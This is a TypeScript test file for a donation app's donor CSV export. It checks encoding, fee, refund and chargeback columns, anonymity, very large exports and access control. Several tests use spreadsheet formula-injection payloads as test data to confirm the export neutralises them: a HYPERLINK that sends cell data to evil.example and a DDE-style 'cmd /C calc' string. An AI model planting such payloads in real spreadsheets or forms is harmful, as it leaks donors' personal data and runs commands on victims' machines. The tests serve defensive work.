import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { donorsCsvStream } from '../../server/appeals/donors-csv';
import { submitCheckoutForm } from '../../server/stripe-emulator/testing';
import { startPaymentsHarness, type PaymentsHarness } from '../helpers/payments-harness';
import { signIn } from '../helpers/sign-in';

let h: PaymentsHarness;

beforeAll(async () => {
  h = await startPaymentsHarness();
});

afterAll(async () => {
  await h?.close();
});

describe('donor export', () => {
  // Organizers thank donors from a spreadsheet: names in any script must survive, and a name
  // that looks like a formula must stay text.
  it('gives organizers a UTF-8 CSV with a BOM, exact amounts and inert formulas', async () => {
    for (const [donorName, amountMinor] of [['Zoë Ñúñez 山田 عمر', '2500'], ['=HYPERLINK("http://evil")', '100']] as const) {
      const { checkoutUrl } = await h.donate('buck-a-brick', { donorName, amountMinor });
      await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
    }
    await h.settle();
    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const res = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = res.body.slice(1).split('\r\n');
    expect(lines[0]).toBe('date,name,email,anonymous,amount,fees_covered_by_donor,refunded,currency,frequency,status,dispute,wants_updates,message');
    expect(res.body).toContain('Zoë Ñúñez 山田 عمر,member@example.org,no,25.00,0.00,0.00,USD,one_off,succeeded');
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil"")"`);

  });

  // A line break in a message (with no comma or quote beside it) was written bare, so the line after
  // it became a row of its own, whose first cell a spreadsheet runs: a formula, a HYPERLINK.
  it('keeps a message with line breaks in its own cell, and what follows a break inert', async () => {
    const message = 'Solidarity from Lyon\n=2+3\n@SUM(A1)';
    const { checkoutUrl } = await h.donate('buck-a-brick', { donorName: 'Row Breaker', amountMinor: '300', message });
    await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
    await h.settle();
    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const res = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
    // Read as a spreadsheet reads it (outside quotes, CR, LF and CRLF all end a row): every record
    // has every column, and no cell begins a formula.
    const records = parse(res.body.slice(1), { relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
    expect(records.every((r) => r.length === records[0]!.length)).toBe(true);
    expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    // Each line a spreadsheet splitting at ";" would start a row with is marked text (the test below).
    expect(records.find((r) => r[1] === 'Row Breaker')?.at(-1)).toBe("Solidarity from Lyon\n'=2+3\n'@SUM(A1)");
  });

  // Excel in French, German, Spanish, Russian or Swedish opens a .csv by splitting each line at ";"
  // (their list separator), and there a quote that does not begin a cell is a plain character: a
  // comma-CSV's quoted cell keeps neither its ";" nor its line breaks inside. What a donor wrote
  // after a ";" or a line break began a cell of its own, which the treasurer's spreadsheet ran as a
  // formula: a HYPERLINK sending the row (names, addresses) away, a DDE command.
  it('keeps what follows a ";" or a line break inert for spreadsheets that split cells at ";"', async () => {
    const donorName = 'Jean;=HYPERLINK("https://evil.example/?d="&A1,"Reçu")';
    const message = "Courage ;@SUM(1+1)*cmd|' /C calc'!A0\n-2+3";
    const { checkoutUrl } = await h.donate('buck-a-brick', { donorName, amountMinor: '400', message });
    await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
    await h.settle();
    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const res = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
    // Read as such a spreadsheet reads it: cells end at ";", rows at CR, LF or CRLF, quotes only
    // quote at a cell's start. No cell begins a formula.
    const cells = parse(res.body.slice(1), { delimiter: ';', relax_quotes: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // Read with commas, the donor's words are all there, each spot a cell could begin marked text.
    const records = parse(res.body.slice(1), { columns: true }) as Record<string, string>[];
    expect(records.find((r) => r.name!.startsWith('Jean'))).toMatchObject({
      name: `Jean;'=HYPERLINK("https://evil.example/?d="&A1,"Reçu")`,
      message: "Courage ;'@SUM(1+1)*cmd|' /C calc'!A0\n'-2+3",
    });
  });

  // A treasurer reconciles the list with Stripe: the charge was the gift and the fees its donor
  // added, and a refund came out of that charge. Neither the fees added nor (in the table) the
  // refund were shown, so a partly refunded $51.80 charge read as a $50.00 gift.
  it('says what the donor added to cover the fees and what was refunded, in the API and the CSV', async () => {
    const { donationId, checkoutUrl } = await h.donate('buck-a-brick', { donorName: 'Fee Coverer', amountMinor: '5000', coverFees: true });
    await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
    await h.settle();
    const refund = await h.app.inject({ method: 'POST', url: `/api/donations/${donationId}/refund`, headers: { cookie: h.treasurer }, payload: { amountMinor: '2000' } });
    expect(refund.statusCode).toBe(202);
    await h.settle();

    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const listed = (await h.app.inject({ url: '/api/appeals/buck-a-brick/donors', headers: { cookie: organizer } })).json() as { donors: Record<string, unknown>[] };
    // $50.00 leaves the appeal $50.00 only if the charge is $51.80: Stripe takes 2.9% + 30¢ of it.
    expect(listed.donors.find((d) => d.donationId === donationId)).toMatchObject({ amountMinor: '5000', coverFeesMinor: '180', refundedMinor: '2000', status: 'partially_refunded' });

    const csv = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
    const [header, ...records] = parse(csv.body.slice(1)) as string[][];
    const row = Object.fromEntries(header!.map((column, i) => [column, records.find((r) => r[1] === 'Fee Coverer')![i]]));
    expect(row).toMatchObject({ amount: '50.00', fees_covered_by_donor: '1.80', refunded: '20.00', currency: 'USD', status: 'partially_refunded' });
  });

  // "Anonymous" is what the donor ticked under "Don’t show my name on the donor wall": a promise
  // about the public wall, not a secret from the organizers, who hold the address anyway and
  // thank donors by name. The page named such a donor, marked anonymous; the CSV blanked the name
  // (but not the address), so the two lists of the same gifts disagreed.
  it('names an anonymous donor to the organizers alike in the list and the CSV, marked anonymous', async () => {
    const { donationId, checkoutUrl } = await h.donate('buck-a-brick', { donorName: 'Quiet Giver', donorEmail: 'quiet@example.org', amountMinor: '700', anonymous: true });
    await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
    await h.settle();
    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const listed = (await h.app.inject({ url: '/api/appeals/buck-a-brick/donors', headers: { cookie: organizer } })).json() as { donors: Record<string, unknown>[] };
    expect(listed.donors.find((d) => d.donationId === donationId)).toMatchObject({ name: 'Quiet Giver', email: 'quiet@example.org', anonymous: true });
    const csv = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
    const records = parse(csv.body.slice(1), { columns: true }) as Record<string, string>[];
    expect(records.find((r) => r.email === 'quiet@example.org')).toMatchObject({ name: 'Quiet Giver', anonymous: 'yes' });
    // The public wall keeps the promise.
    const wall = (await h.app.inject({ url: '/api/appeals/buck-a-brick/wall' })).body;
    expect(wall).not.toContain('Quiet Giver');
  });

  // Buck-a-Brick's federation-wide drives run to six figures of gifts: the export stopped at
  // 100,000 rows without a word, so the treasurer's totals came out short.
  it('exports every gift, past 100,000 of them', async () => {
    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const created = await h.app.inject({
      method: 'POST',
      url: '/api/organizations/ue-local-222/appeals',
      headers: { cookie: organizer },
      payload: { slug: 'six-figure-drive', title: 'Six-figure drive', beneficiary: 'The hall', currency: 'USD', goalMinor: '100000000' },
    });
    expect(created.statusCode).toBe(201);
    const gifts = 100_003;
    await h.testDb.database.db.execute(sql`
      INSERT INTO donations (appeal_id, currency, amount_minor, status, donor_name, donor_email, locale, request_key, created_at)
      SELECT a.id, a.currency, 100 + n, 'succeeded', 'Donor ' || n, 'donor' || n || '@bulk.example.org', 'en', gen_random_uuid()::text,
             timestamptz '2026-01-01' + n * interval '1 second'
        FROM appeals a, generate_series(1, ${gifts}) AS n WHERE a.slug = 'six-figure-drive'`);
    const res = await h.app.inject({ url: '/api/appeals/six-figure-drive/donors.csv', headers: { cookie: organizer } });
    expect(res.statusCode).toBe(200);
    const records = parse(res.body.slice(1), { columns: true }) as Record<string, string>[];
    expect(records.length).toBe(gifts);
    // Newest first, each gift once: the first and last are the series' ends.
    expect([records[0]!.name, records.at(-1)!.name]).toEqual([`Donor ${gifts}`, 'Donor 1']);
    expect(new Set(records.map((r) => r.email)).size).toBe(gifts);
  }, 120_000);

  // Headers are sent before the last page is read: a page that fails must end the stream with an
  // error (the server then cuts the download), never leave it hanging or ending as if complete.
  it('ends the stream with an error when a later page cannot be read', async () => {
    const db = h.testDb.database.db;
    const [appeal] = await h.testDb.database.rows<{ id: string }>(sql`SELECT id FROM appeals WHERE slug = 'buck-a-brick'`);
    await db.execute(sql`
      INSERT INTO donations (appeal_id, currency, amount_minor, status, donor_name, locale, request_key)
      SELECT ${appeal!.id}, 'USD', 100, 'succeeded', 'Paged ' || n, 'en', gen_random_uuid()::text FROM generate_series(1, 500) AS n`);
    const stream = donorsCsvStream(db, appeal!.id, 1);
    // Not flowing yet: only the first pages are read before the table changes under the rest.
    await new Promise((resolve) => stream.once('readable', resolve));
    await db.execute(sql`ALTER TABLE donations RENAME COLUMN message TO message_gone`);
    const ended = new Promise<unknown>((resolve) => {
      stream.on('end', () => resolve('ended'));
      stream.on('error', (err) => resolve(err));
    });
    stream.resume();
    try {
      const outcome = await Promise.race([ended, new Promise((resolve) => setTimeout(() => resolve('hanging'), 10_000))]);
      expect(outcome).toBeInstanceOf(Error);
    } finally {
      await db.execute(sql`ALTER TABLE donations RENAME COLUMN message_gone TO message`);
    }
  });

  it('is for the appeal’s organizers only', async () => {
    const member = await signIn(h.app, 'member@ue222.demo');
    expect((await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: member } })).statusCode).toBe(403);
    expect((await h.app.inject('/api/appeals/buck-a-brick/donors.csv')).statusCode).toBe(401);
  });

  // A chargeback the appeal lost takes the gift back from it, but the gift stays 'disputed' with
  // nothing refunded: the list and the sheet showed it as one still open, and a sheet summing
  // amount less refunded counted money the card's bank had taken back. Each says the outcome.
  it("says a gift's chargeback is lost, or still open, in the API and the CSV", async () => {
    const gifts: Record<string, string> = {};
    for (const donorName of ['Chargeback Lost', 'Chargeback Open']) {
      const { donationId, checkoutUrl } = await h.donate('buck-a-brick', { donorName, amountMinor: '4000' });
      await submitCheckoutForm(checkoutUrl, { card_number: '4242 4242 4242 4242' });
      gifts[donorName] = donationId;
    }
    await h.settle();
    const charges = await h.testDb.database.rows<{ id: string; charge_id: string }>(sql`SELECT id, charge_id FROM donations WHERE id IN (${gifts['Chargeback Lost']!}, ${gifts['Chargeback Open']!})`);
    const chargeOf = (name: string) => charges.find((c) => c.id === gifts[name])!.charge_id;
    const lost = h.emulator.controls.disputeCharge(chargeOf('Chargeback Lost'));
    h.emulator.controls.disputeCharge(chargeOf('Chargeback Open'));
    await h.settle();
    h.emulator.controls.closeDispute(lost.id, 'lost');
    await h.settle();

    const organizer = await signIn(h.app, 'organizer@ue222.demo');
    const listed = (await h.app.inject({ url: '/api/appeals/buck-a-brick/donors', headers: { cookie: organizer } })).json() as { donors: Record<string, unknown>[] };
    const byId = (id: string) => listed.donors.find((d) => d.donationId === id);
    expect(byId(gifts['Chargeback Lost']!)).toMatchObject({ status: 'disputed', dispute: 'lost', refundedMinor: '0' });
    expect(byId(gifts['Chargeback Open']!)).toMatchObject({ status: 'disputed', dispute: 'needs_response' });
    expect(listed.donors.filter((d) => d.status === 'succeeded').every((d) => d.dispute === null)).toBe(true);

    const csv = await h.app.inject({ url: '/api/appeals/buck-a-brick/donors.csv', headers: { cookie: organizer } });
    const [header, ...records] = parse(csv.body.slice(1)) as string[][];
    const row = (name: string) => Object.fromEntries(header!.map((column, i) => [column, records.find((r) => r[1] === name)![i]]));
    expect(row('Chargeback Lost')).toMatchObject({ amount: '40.00', refunded: '0.00', status: 'disputed', dispute: 'lost' });
    expect(row('Chargeback Open')).toMatchObject({ status: 'disputed', dispute: 'needs_response' });
    expect(row('Fee Coverer')).toMatchObject({ status: 'partially_refunded', dispute: '' });
  });
});
